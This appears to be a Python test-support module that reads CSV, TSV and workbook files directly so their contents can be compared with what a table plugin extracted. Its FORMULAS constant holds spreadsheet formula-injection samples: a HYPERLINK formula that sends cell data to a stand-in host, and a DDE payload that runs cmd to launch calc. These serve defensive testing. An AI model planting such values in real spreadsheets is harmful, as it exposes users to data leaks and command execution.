"""Tables as the kit reads them: with no help of the plugin, to compare what is there with what was taken."""

import csv
import io
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

from attrs import frozen

from sicore.errors import MissingExtraError, SicoreError
from sicore.plugins import Source
from sicore.tables.reading import open_tables

DELIMITED = frozenset({".csv", ".tsv"})
WORKBOOK = ".xlsx"
OTHER_TABLES = frozenset({".json", ".ods", ".xls"})
FORMULAS = ('=HYPERLINK("http://192.0.2.1/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
"""Texts that spreadsheets take for formulas."""

_DELIMITERS = ",;\t|"


@frozen(kw_only=True)
class Table:
    """Rows of text.

    Args:
        rows: All rows, those above the header among them.
        header_at: The number of the header among them, counted from 0.
        delimiter: What stands between cells, empty for a workbook.
        encoding: That of a text file.
    """

    rows: list[list[str]]
    header_at: int
    delimiter: str = ""
    encoding: str = "utf-8"

    def filled_columns(self) -> Mapping[str, tuple[str, ...]]:
        """The columns with a value below the header, by header: the names under which a place may know them."""
        found: dict[str, tuple[str, ...]] = {}
        body = self.rows[self.header_at + 1 :]
        for number, header in enumerate(self.rows[self.header_at] if self.rows else ()):
            if any(row[number].strip() for row in body if number < len(row)):
                found[header.strip() or letters(number)] = (header.strip(), header, letters(number))
        return found


def letters(number: int) -> str:
    """A column's letters by its number from 0.

    >>> letters(0), letters(26)
    ('A', 'AA')
    """
    name = ""
    number += 1
    while number:
        number, rest = divmod(number - 1, 26)
        name = chr(ord("A") + rest) + name
    return name


def read_delimited(path: Path) -> Table:
    """A CSV or TSV file; the delimiter is that of which the header has most."""
    encoding = _encoding_of(path)
    text = path.read_bytes().decode(encoding, "replace")
    lines = text.splitlines() or [""]
    widest = max(lines[:20], key=lambda line: max(line.count(each) for each in _DELIMITERS))
    delimiter = max(_DELIMITERS, key=widest.count)
    # For the plugin the limit must stay what it is: what it does about longer cells is tried as well.
    before = csv.field_size_limit(len(text) + 1)
    try:
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    finally:
        csv.field_size_limit(before)
    return Table(rows=rows, header_at=_header_at(rows), delimiter=delimiter, encoding=encoding)


def _encoding_of(path: Path) -> str:
    """That of the mark, UTF-8, or what the letters speak for; UTF-8 where nothing is likely."""
    content = path.read_bytes()
    if content[:2] in (b"\xff\xfe", b"\xfe\xff"):
        return "utf-16"
    try:
        content.decode("utf-8-sig")
        return "utf-8-sig"
    except UnicodeDecodeError:
        pass
    try:
        with open_tables(Source(path=path)) as tables:
            return tables.encoding or "utf-8-sig"
    except SicoreError:
        return "utf-8-sig"


def read_tables(path: Path) -> Iterator[Table]:
    """The tables of a file that is neither text nor XLSX: older workbooks, pages named like them, and JSON lists.

    Raises:
        RefusedSourceError: it cannot be read as a table.
        MissingExtraError: the extra `tables` is not installed.
    """
    with open_tables(Source(path=path)) as tables:
        for grid in tables.grids:
            rows = [["" if cell is None else str(cell) for cell in row.cells] for row in grid.rows()]
            yield Table(rows=rows, header_at=_header_at(rows) if grid.is_lettered else 0)


def read_workbook(path: Path) -> Iterator[Table]:
    """The sheets of a workbook.

    Raises:
        MissingExtraError: the extra `tables` is not installed.
    """
    for sheet in workbook(path).worksheets:
        rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
        yield Table(rows=rows, header_at=_header_at(rows))


def formulas_of_workbook(path: Path) -> Iterator[str]:
    """The cells of a workbook that a spreadsheet computes.

    Raises:
        MissingExtraError: the extra `tables` is not installed.
    """
    for sheet in workbook(path).worksheets:
        yield from (str(cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type == "f")


def workbook(path: Path) -> Any:
    """A workbook, with its formulas.

    Raises:
        MissingExtraError: the extra `tables` is not installed.
    """
    try:
        from openpyxl import load_workbook  # noqa: PLC0415  (an optional package)
    except ImportError as error:
        raise MissingExtraError("tables", "look into workbooks") from error
    return load_workbook(path)


def _header_at(rows: list[list[str]]) -> int:
    filled = [sum(bool(cell.strip()) for cell in row) for row in rows[:20]]
    return filled.index(max(filled)) if filled else 0
